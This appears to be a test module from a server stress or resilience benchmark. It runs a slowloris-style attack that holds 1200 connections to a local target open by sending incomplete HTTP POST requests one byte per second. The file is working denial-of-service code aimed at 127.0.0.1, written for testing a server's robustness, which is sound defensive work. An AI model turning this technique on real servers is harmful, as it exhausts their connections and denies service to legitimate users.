"""Half requests: as many connections as there can be, each with a request that goes on by a byte a second."""

import asyncio

from bench.flood import connected
from bench.target import Target, at_once

CONNECTIONS = 1200


async def abuse(target: Target) -> None:
    async def dawdle(number: int) -> None:
        async with connected(target) as (reader, writer):
            head = f"POST /api/tables HTTP/1.1\r\nHost: 127.0.0.1:{target.port}\r\n"
            writer.write(head.encode() + (b"Content-Length: 60000\r\n\r\n" if number % 2 else b"X: "))
            while not reader.at_eof():
                await asyncio.sleep(1)
                writer.write(b"a")
                await writer.drain()

    await at_once(CONNECTIONS, dawdle)
